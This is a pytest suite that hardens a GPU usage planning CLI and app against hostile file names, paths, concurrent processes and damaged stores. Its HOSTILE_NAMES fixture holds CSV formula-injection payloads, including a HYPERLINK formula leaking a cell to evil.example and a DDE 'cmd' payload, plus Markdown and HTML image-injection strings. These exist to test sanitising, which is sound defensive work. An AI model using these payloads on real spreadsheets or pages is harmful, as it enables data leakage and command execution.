"""Adversarial suite for outputs, paths, the CLI and the scenario store (issue 14): hostile names, hostile paths,
concurrent processes, damaged and foreign files. Everything is real: files in tmp_path, the CLI through CliRunner
or a real process, real DuckDB files, real subprocesses holding locks, Streamlit's AppTest.

Reusable: :data:`HOSTILE_NAMES` and :func:`hostile_usage` build usage with names a spreadsheet or Markdown would
run; :func:`one_error_line` is the contract of every refused command (exit 2, one ``error:`` line, no traceback).
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

from app import limits
from app import store as St
from app.cli import app
from usage import io as fio

ROOT = Path(__file__).resolve().parents[1]
PLAN = ROOT / "data_samples" / "operate" / "plan_2025-11.json"
runner = CliRunner()

HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                 "\tTAB", "![x](http://evil.example/p.png)", "ml|research")
"""Team names a spreadsheet would run as a formula, Markdown would render, or that contain separators."""


def hostile_usage(path: Path, start: str = "2025-11-01", hours: int = 72) -> Path:
    """Canonical usage (NVIDIA A100, 4 GPUs every hour) for each of :data:`HOSTILE_NAMES` and a plain team."""
    ts = pd.date_range(start, periods=hours, freq="h")
    frame = pd.concat([pd.DataFrame({"timestamp": ts.strftime("%Y-%m-%dT%H:%M:%SZ"), "team": team,
                                     "gpu_type": "NVIDIA A100", "gpus": 4.0}) for team in (*HOSTILE_NAMES, "plain")])
    frame.to_csv(path, index=False)
    return path


def invoke(*args: object):
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def one_error_line(result, *needles: str) -> str:
    """The refused command's contract: exit 2, exactly one line starting ``error:``, naming each needle."""
    assert result.exit_code == 2, result.output
    lines = [ln for ln in result.output.splitlines() if ln.startswith("error:")]
    assert len(lines) == 1, result.output
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in lines[0], lines[0]
    return lines[0]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# --- 1. an output never overwrites an input --------------------------------------------------------------------
@pytest.mark.parametrize("spelling", ["same", "dotdot", "symlink"])
def test_ingest_refuses_to_write_over_its_input_however_it_is_spelled(tmp_path, spelling):
    usage = hostile_usage(tmp_path / "cur.csv")
    before = usage.read_bytes()
    out = {"same": usage, "dotdot": tmp_path / "sub" / ".." / "cur.csv", "symlink": tmp_path / "link.csv"}[spelling]
    if spelling == "symlink":
        out.symlink_to(usage)
    one_error_line(invoke("ingest", usage, "--out", out), "--out", "is the input", "fix:")
    assert usage.read_bytes() == before


@pytest.mark.parametrize("command", [
    ["forecast", "--usage", "{usage}", "--horizon-hours", "24", "--out", "{usage}"],
    ["forecast", "--usage", "{usage}", "--horizon-hours", "24", "--out", "{tmp}/f.csv", "--levels-out", "{usage}"],
    ["chargeback", "--usage", "{usage}", "--plan", "{plan}", "--out", "{usage}"],
    ["chargeback", "--usage", "{usage}", "--plan", "{plan}", "--out", "{tmp}/cb.csv", "--idle-out", "{plan}"],
    ["plan", "--usage", "{usage}", "--start", "2025-11-04T00:00Z", "--hours", "24", "--out", "{usage}"],
    ["longterm", "--usage", "{usage}", "--out", "{usage}"],
    ["backtest", "--usage", "{usage}", "--out", "{tmp}/b.csv", "--chart", "{usage}"],
    ["units", "--usage", "{usage}", "--units", "{plan}", "--out", "{plan}"],
    ["check", "--policy", "{usage}", "--plan", "{plan}", "--out", "{tmp}/v.csv", "--idle-out", "{usage}"],
    ["alerts", "--usage", "{usage}", "--budgets", "{plan}", "--out", "{plan}"],
    ["report", "--usage", "{usage}", "--out-dir", "{usage}"],
])
def test_every_writing_command_refuses_an_output_that_is_an_input(tmp_path, command):
    usage = hostile_usage(tmp_path / "usage.csv")
    plan = tmp_path / "plan.json"
    plan.write_bytes(PLAN.read_bytes())
    before = snapshot(tmp_path)
    args = [a.format(usage=usage, plan=plan, tmp=tmp_path) for a in command]
    one_error_line(invoke(*args), "is the input", "fix:")
    assert snapshot(tmp_path) == before  # nothing written, nothing changed


def test_report_refuses_to_replace_an_input_inside_its_folder(tmp_path):
    """The usage is called top_spenders.csv and lies in --out-dir: the report would replace it."""
    usage = hostile_usage(tmp_path / "top_spenders.csv")
    before = snapshot(tmp_path)
    one_error_line(invoke("report", "--usage", usage, "--out-dir", tmp_path), "is the input", str(usage))
    assert snapshot(tmp_path) == before


def test_an_output_inside_an_input_folder_is_refused(tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    hostile_usage(folder / "part1.csv")
    one_error_line(invoke("ingest", folder, "--out", folder / "usage.csv"), "lies inside the input folder")
    assert [p.name for p in folder.iterdir()] == ["part1.csv"]


def test_the_writer_itself_refuses_a_protected_input(tmp_path):
    """The guard is in the writer too, so a file a command derives (report.html in --out-dir) is covered."""
    src = tmp_path / "report.html"
    src.write_text("mine")
    with fio.protecting([src]), pytest.raises(fio.OutputError, match="is the input"):
        fio.write_folder_atomic(tmp_path, {"report.html": lambda fh: fh.write("theirs")})
    assert src.read_text() == "mine"


# --- 8. operating-system errors are one line; report is never half-written -------------------------------------
def test_os_errors_on_paths_are_one_line(tmp_path):
    usage = hostile_usage(tmp_path / "usage.csv")
    blocker = tmp_path / "afile"
    blocker.write_text("x")
    folder = tmp_path / "folder"
    folder.mkdir()
    one_error_line(invoke("ingest", usage, "--out", blocker / "x.csv"), str(blocker), "is a file, not a folder",
                   "fix:")
    one_error_line(invoke("ingest", usage, "--out", blocker / "deeper" / "x.csv"), str(blocker), "fix:")
    one_error_line(invoke("ingest", usage, "--out", folder), "--out", "is a folder", "fix:")
    one_error_line(invoke("chargeback", "--usage", usage, "--plan", folder, "--out", tmp_path / "c.csv"),
                   str(folder), "is a directory", "fix:")
    one_error_line(invoke("alerts", "--usage", usage, "--budgets", folder, "--out", tmp_path / "a.json"),
                   str(folder), "fix:")
    one_error_line(invoke("check", "--policy", folder, "--usage", usage), str(folder), "fix:")
    one_error_line(invoke("report", "--usage", usage, "--out-dir", blocker), "--out-dir", "is a file", "fix:")
    assert blocker.read_text() == "x"


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder_is_one_line(tmp_path):
    usage = hostile_usage(tmp_path / "usage.csv")
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        one_error_line(invoke("ingest", usage, "--out", ro / "x.csv"), str(ro), "permission denied", "fix:")
    finally:
        ro.chmod(0o755)


def test_a_failing_report_leaves_the_folder_as_it_was(tmp_path):
    out_dir = tmp_path / "report"
    out_dir.mkdir()
    (out_dir / "report.html").write_text("last month's report")
    (out_dir / "notes.txt").write_text("kept")

    def broken(fh):
        fh.write("half")
        raise RuntimeError("disk went away")

    files = {"report.html": lambda fh: fh.write("<html>new</html>"), "top_spenders.csv": broken}
    with pytest.raises(RuntimeError):
        fio.write_folder_atomic(out_dir, files)
    assert snapshot(out_dir) == {"report.html": b"last month's report", "notes.txt": b"kept"}
    assert [p.name for p in tmp_path.iterdir()] == ["report"]  # no temporary folder left behind
    with pytest.raises(RuntimeError):
        fio.write_folder_atomic(tmp_path / "fresh", files)
    assert not (tmp_path / "fresh").exists()
    paths = fio.write_folder_atomic(out_dir, {"report.html": lambda fh: fh.write("<html>new</html>")})
    assert [p.read_text() for p in paths] == ["<html>new</html>"] and (out_dir / "notes.txt").read_text() == "kept"


def test_report_writes_html_and_csvs_together(tmp_path):
    usage = hostile_usage(tmp_path / "usage.csv")
    r = invoke("report", "--usage", usage, "--plan", PLAN, "--out-dir", tmp_path / "out" / "report")
    assert r.exit_code == 0, r.output
    names = sorted(p.name for p in (tmp_path / "out" / "report").iterdir())
    assert names == ["chargeback.csv", "commitment.csv", "report.html", "top_spenders.csv"]
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["report"]


# --- 12. outputs respect the umask ----------------------------------------------------------------------------
@pytest.mark.parametrize("umask,mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_outputs_take_the_umask_permissions(tmp_path, umask, mode):
    usage = hostile_usage(tmp_path / "usage.csv")
    old = os.umask(umask)
    try:
        assert invoke("ingest", usage, "--out", tmp_path / "u.csv").exit_code == 0
        fio.write_folder_atomic(tmp_path / "rep", {"a.csv": lambda fh: fh.write("a\n")})
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "u.csv").stat().st_mode) == mode
    assert stat.S_IMODE((tmp_path / "rep" / "a.csv").stat().st_mode) == mode
    assert stat.S_IMODE((tmp_path / "rep").stat().st_mode) == 0o777 & ~umask


# --- 10. CSV text cells cannot run as spreadsheet formulas ----------------------------------------------------
def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_sanitiser_neutralises_formula_text_and_leaves_numbers():
    frame = pd.DataFrame({"team": ["=1+2", "+x", "-ops", "@a", "\tt", "\rr", "-5", "+1.5e3", "ok", None],
                          "usd": [-1.0, 2.0, -3.5, 0.0, 1.0, 1.0, 1.0, 1.0, 1.0, 1.0],
                          "=col": ["a"] * 10})
    safe = fio.safe_csv_frame(frame)
    assert safe["team"].tolist()[:9] == ["'=1+2", "'+x", "'-ops", "'@a", "'\tt", "'\rr", "-5", "+1.5e3", "ok"]
    assert safe["team"].iloc[9] is None
    assert safe["usd"].tolist() == frame["usd"].tolist()  # numbers untouched
    assert list(safe.columns) == ["team", "usd", "'=col"]
    assert frame["team"].iloc[0] == "=1+2"  # the caller's frame is not changed
    plain = pd.DataFrame({"team": ["a", "b"], "usd": [1.0, -2.0]})
    assert fio.safe_csv_frame(plain) is plain


def test_every_cli_csv_holds_no_formula(tmp_path):
    usage = hostile_usage(tmp_path / "usage.csv")
    units = tmp_path / "units.csv"
    units.write_text("team,period,unit,count\n" + "".join(
        f'"{t.replace(chr(34), chr(34) * 2)}",2025-11,run,3\n' for t in HOSTILE_NAMES if t != "\tTAB"))
    assert invoke("ingest", usage, "--out", tmp_path / "canon.csv").exit_code == 0
    r = invoke("chargeback", "--usage", usage, "--plan", PLAN, "--out", tmp_path / "cb.csv")
    assert r.exit_code == 0 and "![x](http://evil.example/p.png)" in r.output  # printed as is: no console markup
    r = invoke("units", "--usage", usage, "--units", units, "--out", tmp_path / "uc.csv")
    assert r.exit_code == 0, r.output
    assert invoke("report", "--usage", usage, "--plan", PLAN, "--units", units, "--out-dir",
                  tmp_path / "rep").exit_code == 0
    written = [tmp_path / "canon.csv", tmp_path / "cb.csv", tmp_path / "uc.csv", *(tmp_path / "rep").glob("*.csv")]
    assert len(written) >= 7
    for path in written:
        for row in cells(path.read_text()):
            for value in row.values():
                assert not value.startswith(fio.FORMULA_START) or fio._PLAIN_NUMBER.match(value), (path, value)
    teams = {row["team"] for row in cells((tmp_path / "cb.csv").read_text())}
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in teams and "'-2+3" in teams
    assert "ml|research" in teams and "plain" in teams


def test_app_downloads_hold_no_formula():
    from app import operate_state as O
    from app import state as A

    frame = pd.DataFrame({"team": ["=cmd()", "ok"], "timestamp": pd.to_datetime(["2025-11-01", "2025-11-02"]),
                          "usd": [-1.0, 2.0]})
    for blob in (A.csv_bytes(frame), O.csv_bytes(frame)):
        rows = cells(blob.decode())
        assert [r["team"] for r in rows] == ["'=cmd()", "ok"] and [r["usd"] for r in rows] == ["-1.0", "2.0"]


# --- option-parser errors are the documented one line -------------------------------------------------------------
@pytest.mark.parametrize("args,needle", [
    (["ingest", "--bogus"], "No such option: --bogus"),
    (["plan", "--usage", "u.csv"], "Missing option"),
    (["plan", "--usage", "u.csv", "--start", "2025-01-01", "--hours", "many", "--out", "p.json"], "'--hours'"),
    (["no-such-command"], "No such command"),
    (["catalog", "show", "--region"], "requires an argument"),
])
def test_usage_errors_are_one_error_line(args, needle):
    line = one_error_line(invoke(*args), needle, "(fix: see ")
    assert "╭" not in line


def test_usage_errors_in_a_real_process():
    proc = subprocess.run([sys.executable, "-c", "from app.cli import main; main()", "chargeback", "--plan"],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 2
    assert proc.stderr.strip().count("\n") == 0 and proc.stderr.startswith("error: "), proc.stderr
    assert "--plan" in proc.stderr and "Usage:" not in proc.stderr + proc.stdout


def test_no_arguments_still_prints_the_help():
    r = invoke()
    assert "Usage:" in r.output and "error:" not in r.output


# --- chargeback of usage outside the plan window ------------------------------------------------------------------
def test_chargeback_of_usage_outside_the_plan_window_is_refused(tmp_path):
    usage = hostile_usage(tmp_path / "usage.csv", start="2024-03-01")
    one_error_line(invoke("chargeback", "--usage", usage, "--plan", PLAN, "--out", tmp_path / "cb.csv"),
                   "2024-03-01 00:00 to 2024-03-03 23:00 UTC", "2025-11-01 00:00 to 2025-12-01 00:00", "fix:")
    assert not (tmp_path / "cb.csv").exists()


# --- GPUPLAN_MAX_UPLOAD_MB: one parser ---------------------------------------------------------------------------
def test_the_upload_limit_has_one_parser(monkeypatch):
    assert limits.max_upload_mb({}) == 200 and limits.max_upload_mb({limits.MAX_UPLOAD_ENV: " 500 "}) == 500
    for bad in ("abc", "0", "-5", "1.5", "1e3"):
        with pytest.raises(ValueError, match=f"{limits.MAX_UPLOAD_ENV}='{bad}' is not a whole number"):
            limits.max_upload_mb({limits.MAX_UPLOAD_ENV: bad})
        monkeypatch.setenv(limits.MAX_UPLOAD_ENV, bad)
        one_error_line(invoke("app", "--port", "1"), limits.MAX_UPLOAD_ENV, "fix:")  # refused before serving
        from app import uploads

        with pytest.raises(ValueError, match=limits.MAX_UPLOAD_ENV):
            uploads.read_upload("u.csv", b"timestamp,team,gpu_type,gpus\n", None)  # type: ignore[arg-type]


def test_upload_temporary_folders_are_removed(tmp_path, monkeypatch):
    from app import operate_state as O

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with O.materialised(O.InputFile("budgets.csv", b"team,period,budget_usd\na,2025-11,10\n")) as path:
        assert path.read_bytes().startswith(b"team") and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert list(tmp_path.iterdir()) == []


# --- 4, 5, 9. the scenario store ------------------------------------------------------------------------------
SAVER = textwrap.dedent("""
    import sys
    from app.store import ScenarioStore
    from tests.test_store import Knobs, flat_plan
    path, prefix, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    plan = flat_plan()
    store = ScenarioStore(path)
    print("ready", flush=True)
    sys.stdin.readline()  # both processes start saving together
    for i in range(n):
        store.save(f"{prefix}-{i}", Knobs("helios", 100), plan, data_source="sample:helios")
    print("saved", n, flush=True)
""")


def _python(*args: str, **kw) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-c", *args], cwd=ROOT, text=True, stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env={**os.environ, "PYTHONPATH": str(ROOT)}, **kw)


def test_two_processes_saving_60_scenarios_each_to_one_store_save_all_120(tmp_path):
    path = tmp_path / "shared.duckdb"
    St.ScenarioStore(path)
    procs = [_python(SAVER, str(path), prefix, "60") for prefix in ("a", "b")]
    for p in procs:
        assert p.stdout.readline().strip() == "ready", p.stderr.read()
    for p in procs:
        p.stdin.write("go\n")
        p.stdin.flush()
    results = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], [err[-2000:] for _, err in results]
    names = set(St.ScenarioStore(path).names())
    assert len(names) == 120 and {f"a-{i}" for i in range(60)} | {f"b-{i}" for i in range(60)} == names


HOLDER = textwrap.dedent("""
    import sys, duckdb
    con = duckdb.connect(sys.argv[1])
    print("holding", flush=True)
    sys.stdin.readline()
    con.close()
""")


def test_a_store_held_too_long_names_the_holding_process_and_never_says_move_it(tmp_path):
    path = tmp_path / "held.duckdb"
    St.ScenarioStore(path).save("kept", {"a": 1}, _plan(), data_source="x")
    holder = _python(HOLDER, str(path))
    try:
        assert holder.stdout.readline().strip() == "holding"
        t0 = time.monotonic()
        with pytest.raises(St.StoreError) as err:
            St.ScenarioStore(path, lock_wait_s=1.0)
        waited = time.monotonic() - t0
    finally:
        holder.communicate("done\n", timeout=60)
    message = str(err.value)
    assert f"PID {holder.pid}" in message and "stayed locked for 1 s" in message and "\n" not in message
    assert "move" not in message and "fine" in message
    assert 1.0 <= waited < 10.0
    assert St.ScenarioStore(path).names() == ["kept"]  # released: the store works and is intact


def test_a_lock_released_within_the_wait_is_waited_out(tmp_path):
    path = tmp_path / "busy.duckdb"
    St.ScenarioStore(path)
    holder = _python(HOLDER, str(path))
    try:
        assert holder.stdout.readline().strip() == "holding"
        holder.stdin.write("done\n")  # the holder closes while we are already waiting
        holder.stdin.flush()
        St.ScenarioStore(path, lock_wait_s=30.0).save("after", {"a": 1}, _plan(), data_source="x")
    finally:
        holder.communicate(timeout=60)
    assert St.ScenarioStore(path).names() == ["after"]


def _plan():
    from tests.test_store import flat_plan

    return flat_plan()


def test_a_foreign_duckdb_database_is_refused_before_anything_is_written(tmp_path, monkeypatch):
    path = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE scenarios (id INTEGER, label VARCHAR)")
        con.execute("CREATE TABLE invoices (id INTEGER)")
        con.execute("INSERT INTO scenarios VALUES (1, 'theirs')")
    monkeypatch.setenv(St.STORE_ENV, str(path))
    with pytest.raises(St.StoreError) as err:
        St.ScenarioStore()
    message = str(err.value)
    assert "another database (tables invoices, scenarios)" in message and "nothing was written" in message
    assert St.STORE_ENV in message and "\n" not in message
    with duckdb.connect(str(path), read_only=True) as con:
        tables = sorted(r[0] for r in con.execute("SELECT table_name FROM information_schema.tables").fetchall())
        assert tables == ["invoices", "scenarios"]
        assert con.execute("SELECT * FROM scenarios").fetchall() == [(1, "theirs")]


def _truncated_store(tmp_path: Path) -> Path:
    path = tmp_path / "scenarios.duckdb"
    db = St.ScenarioStore(path)
    for i in range(3):
        db.save(f"s{i}", {"a": i}, _plan(), data_source="x", note="n" * 2000)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def test_a_truncated_store_is_one_line_with_the_fix(tmp_path):
    path = _truncated_store(tmp_path)
    with pytest.raises(St.StoreError) as err:
        St.ScenarioStore(path).list()
    message = str(err.value)
    assert "the file is damaged" in message and "restore it from a backup" in message and "\n" not in message


def test_the_scenarios_page_explains_a_truncated_store(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from app import fmt
    from app import state as A

    path = _truncated_store(tmp_path)
    monkeypatch.setenv(A.DEFAULT_SAMPLE_ENV, "helios")
    monkeypatch.setenv(A.DEFAULT_HOURS_ENV, "168")
    monkeypatch.setenv(St.STORE_ENV, str(path))
    at = AppTest.from_function(_scenarios_page, default_timeout=300)
    at.run()
    assert not at.exception
    errors = [fmt.unplain(e.value) for e in at.error]
    assert len(errors) == 1 and "unexpected error" not in errors[0], errors
    assert str(path) in errors[0] and "damaged" in errors[0] and "restore it from a backup" in errors[0]


def _scenarios_page() -> None:  # runs inside AppTest's script: imports must be local
    from app.app_pages import scenarios

    scenarios.render()


# --- 11. user strings are plain text in the app -----------------------------------------------------------------
def test_scenario_names_and_notes_render_as_literal_text(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from app import fmt
    from app import state as A
    from app.app_pages import scenarios as P

    monkeypatch.setenv(A.DEFAULT_SAMPLE_ENV, "helios")
    monkeypatch.setenv(A.DEFAULT_HOURS_ENV, "168")
    monkeypatch.setenv(St.STORE_ENV, str(tmp_path / "s.duckdb"))
    image = "![x](http://host/p.png)"
    html = '<img src="http://host/q.png"> :red[loud] $x^2$'
    db = St.ScenarioStore()
    plan = A.cached_plan(A.PlannerSettings(sample="helios", hours=168)).plan
    db.save(image, {"sample": "helios", "hours": 168}, plan, data_source="sample:helios", note=html)
    db.save("base", {"sample": "helios", "hours": 168}, plan, data_source="sample:helios", note=image)
    at = AppTest.from_function(_scenarios_page, default_timeout=300)
    at.run()
    at.multiselect(key=P.COMPARE_KEY).set_value([image, "base"])
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    shown = [e.value for kind in ("markdown", "caption", "subheader", "success", "info", "warning", "error")
             for e in at.get(kind)] + [m.delta or "" for m in at.metric]
    live = re.compile(r"(?<!\\)\]\(http|(?<!\\)<img|(?<!\\):red|(?<!\\)\$x")  # unescaped: Markdown would run it
    assert not [s for s in shown if live.search(s)], shown
    texts = [fmt.unplain(s) for s in shown]
    assert image in texts  # the compared scenario's heading, literally
    assert html in texts and image in texts  # notes as captions, literally
    assert any(t.endswith(f"vs {image}") for t in texts)
    assert not at.get("imgs") and not at.get("image")
    md = [e.value for e in at.markdown if "What to buy" in e.value]
    assert md and all("**What to buy**" in v for v in md)  # our own Markdown still renders
